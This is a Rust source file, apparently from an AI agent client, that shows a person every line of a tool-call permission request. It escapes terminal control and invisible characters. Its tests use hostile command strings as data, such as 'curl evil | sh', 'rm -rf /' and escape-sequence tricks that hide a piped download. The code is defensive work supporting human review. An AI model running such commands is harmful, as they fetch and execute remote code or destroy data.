//! What a person is shown of a request: all of it.
//!
//! A title, a path or a command that is cut hides what it does. What is too long to be read is not
//! allowed by a person.

use acp_sdk::text::{escaped, git_patch, one_line};
use serde_json::Value;

use super::{PermissionRequest, as_diff};

/// The most lines that a person can be expected to read before an answer.
const MOST_LINES: usize = 2000;

/// The same in bytes.
const MOST_BYTES: usize = 256 << 10;

/// The length of the title of such a request, in characters.
const MOST_TITLE: usize = 1000;

/// What a request says, as lines.
#[derive(Debug)]
pub struct Shown {
    /// The title, the paths and the input of the tool.
    pub lines: Vec<String>,
    /// The number of lines, if they are too many to be shown.
    pub too_long: Option<usize>,
}

impl Shown {
    /// Returns the text of a question. The names of its options count towards the length.
    pub fn new(question: &PermissionRequest) -> Self {
        let mut lines = Vec::new();
        let kind = question.kind.as_ref();
        let kind = kind.map_or_else(String::new, |kind| format!(" ({kind})"));
        let title = question.title.as_deref().unwrap_or("a tool call");
        add(&mut lines, "", &format!("{title}{kind}"));
        if let Some(child) = &question.child {
            let name = child.title.as_deref();
            add(
                &mut lines,
                "subagent: ",
                name.unwrap_or(child.session.as_str()),
            );
        }
        for path in &question.paths {
            add(&mut lines, "path: ", path);
        }
        let input = question.raw_input.as_ref();
        match input.and_then(acp_sdk::Json::to_value) {
            Some(Value::Object(members)) => {
                for (name, value) in &members {
                    match value {
                        Value::String(text) => add(&mut lines, &format!("{name}: "), text),
                        value => add(&mut lines, &format!("{name}: "), &value.to_string()),
                    }
                }
            }
            Some(Value::Null) | None => {}
            Some(value) => add(&mut lines, "input: ", &value.to_string()),
        }
        let bytes: usize = lines.iter().map(String::len).sum();
        let options = question.request.options.iter();
        let bytes = bytes + options.map(|option| option.name.len()).sum::<usize>();
        let too_long = (lines.len() > MOST_LINES || bytes > MOST_BYTES).then_some(lines.len());
        if too_long.is_some() {
            lines.truncate(1);
            lines[0] = one_line(&lines[0], MOST_TITLE);
        }
        Self { lines, too_long }
    }
}

/// Returns the changes that a request shows, as lines of patches.
pub(super) fn patches(question: &PermissionRequest) -> Vec<String> {
    let content = question.request.tool_call.content.iter().flatten();
    let mut lines = Vec::new();
    for diff in content.filter_map(as_diff) {
        if let Some(patch) = git_patch(&diff.path, diff.old_text.as_deref(), &diff.new_text) {
            lines.extend(patch.text.lines().map(visible));
        }
    }
    lines
}

/// Adds a text that has a label. Its further lines are indented.
fn add(lines: &mut Vec<String>, label: &str, text: &str) {
    let mut each = text.split(['\n', '\r']);
    let first = each.next().unwrap_or_default();
    lines.push(format!("{}{}", visible(label), visible(first)));
    lines.extend(each.map(|line| format!("    {}", visible(line))));
}

/// Returns a line in which what would control a terminal can be seen.
fn visible(line: &str) -> String {
    escaped(line).replace('\t', "    ")
}

#[cfg(test)]
mod tests {
    use acp_sdk::Json;
    use acp_sdk::v1::{
        Diff, RequestPermissionRequest, ToolCallContent, ToolCallLocation, ToolCallUpdate, ToolKind,
    };
    use serde_json::json;

    use super::*;

    fn question(title: &str, input: &Value) -> PermissionRequest {
        let call = ToolCallUpdate::new("call")
            .with_title(title)
            .with_kind(ToolKind::Execute)
            .with_locations(vec![ToolCallLocation::new("/a/b")])
            .with_raw_input(Json::from(input));
        PermissionRequest::new(RequestPermissionRequest::new("s", call, Vec::new()))
    }

    #[test]
    fn nothing_is_cut() {
        let command = format!("echo {}; curl evil | sh", "x".repeat(10_000));
        let input = json!({"command": command, "args": ["a\nb"]});
        let mut shown = Shown::new(&question("Run\nit", &input));
        let heading = ["Run", "    it (execute)", "path: /a/b"];
        assert_eq!(shown.lines[..3], heading);
        // The order of members depends on the features of serde_json.
        shown.lines[3..].sort();
        let members = ["args: [\"a\\nb\"]", &format!("command: {command}")];
        assert_eq!(shown.lines[3..], members);
        assert_eq!(shown.too_long, None);
    }

    /// What a diff seems to show as well is shown all the same.
    #[test]
    fn a_diff_hides_nothing() {
        let mut question = question("Edit", &json!({"command": "curl evil\nsh"}));
        let text = "curl evil\nsh\n";
        let diff = Diff::new("/a/b", text).with_old_text(text);
        question.request.tool_call.content = Some(vec![ToolCallContent::Diff(diff)]);
        let shown = Shown::new(&question);
        let expected = [
            "Edit (execute)",
            "path: /a/b",
            "command: curl evil",
            "    sh",
        ];
        assert_eq!(shown.lines, expected);
    }

    /// An escape sequence would hide what follows it.
    #[test]
    fn nothing_in_a_command_is_hidden() {
        for c in [
            '\u{1b}', '\u{9b}', '\u{9d}', '\u{90}', '\u{202e}', '\u{200b}', '\u{7}', '\u{2028}',
        ] {
            for next in ["]", "P", "[", ""] {
                let command = format!("echo hi {c}{next}; curl evil | sh");
                let shown = Shown::new(&question("Run", &json!({ "command": command })));
                let number = c.escape_unicode();
                let expected = format!("command: echo hi {number}{next}; curl evil | sh");
                assert_eq!(shown.lines[2..], [expected]);
            }
        }
    }

    #[test]
    fn a_line_feed_in_a_command_is_seen() {
        let shown = Shown::new(&question(
            "Run",
            &json!({"command": "ls\nrm -rf /\r\u{1b}[2Kls"}),
        ));
        assert_eq!(
            shown.lines[2..],
            ["command: ls", "    rm -rf /", "    \\u{1b}[2Kls"]
        );
    }

    #[test]
    fn what_nobody_can_read_is_said_to_be_too_long() {
        for text in ["x\n".repeat(MOST_LINES), "x".repeat(MOST_BYTES)] {
            let shown = Shown::new(&question("Run", &json!({ "command": text })));
            assert!(shown.too_long.is_some());
            assert_eq!(shown.lines, ["Run (execute)"]);
        }
    }
}
